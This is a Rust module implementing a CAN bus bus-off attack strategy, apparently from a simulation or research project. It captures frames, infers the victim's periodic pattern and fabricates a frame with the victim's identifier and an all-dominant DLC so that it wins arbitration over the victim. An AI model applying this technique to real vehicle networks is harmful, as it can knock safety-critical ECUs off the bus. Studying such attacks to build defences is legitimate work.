/// Bus-Off Attack Strategy
///
/// Capability held by attacker-role ECUs: capture traffic, keep the inferred
/// pattern, and fabricate the frame that out-arbitrates the victim's periodic
/// transmission.
use crate::pattern::{Pattern, PatternAnalyzer};
use crate::types::{CanFrame, Dlc};

/// Payload used when no precedent frame has been captured
const FALLBACK_PAYLOAD: [u8; 1] = [0x00];

#[derive(Debug, Clone, Default)]
pub struct AttackStrategy {
    captured: Vec<CanFrame>,
    target: Option<Pattern>,
    analyzer: PatternAnalyzer,
}

impl AttackStrategy {
    pub fn new() -> Self {
        Self::default()
    }

    /// Record a frame seen on the bus
    pub fn observe(&mut self, frame: CanFrame) {
        self.captured.push(frame);
    }

    pub fn captured(&self) -> &[CanFrame] {
        &self.captured
    }

    pub fn captured_count(&self) -> usize {
        self.captured.len()
    }

    /// Run pattern inference over everything captured so far
    pub fn analyze_captured(&mut self) -> Option<Pattern> {
        self.target = self.analyzer.analyze(&self.captured);
        self.target
    }

    pub fn target(&self) -> Option<Pattern> {
        self.target
    }

    /// Most recent captured frame carrying the precedent identifier
    pub fn last_precedent_frame(&self) -> Option<&CanFrame> {
        let pattern = self.target?;
        self.captured
            .iter()
            .rev()
            .find(|frame| frame.id() == pattern.precedent_id)
    }

    /// Frame with the victim's periodic id and an all-dominant DLC
    ///
    /// The payload is copied from the last captured precedent frame.
    pub fn fabricate_frame(&self) -> Option<CanFrame> {
        let pattern = self.target?;
        let data = self
            .last_precedent_frame()
            .map(|frame| frame.data().to_vec())
            .unwrap_or_else(|| FALLBACK_PAYLOAD.to_vec());

        CanFrame::with_dlc(pattern.periodic_id, Dlc::DOMINANT, data).ok()
    }
}
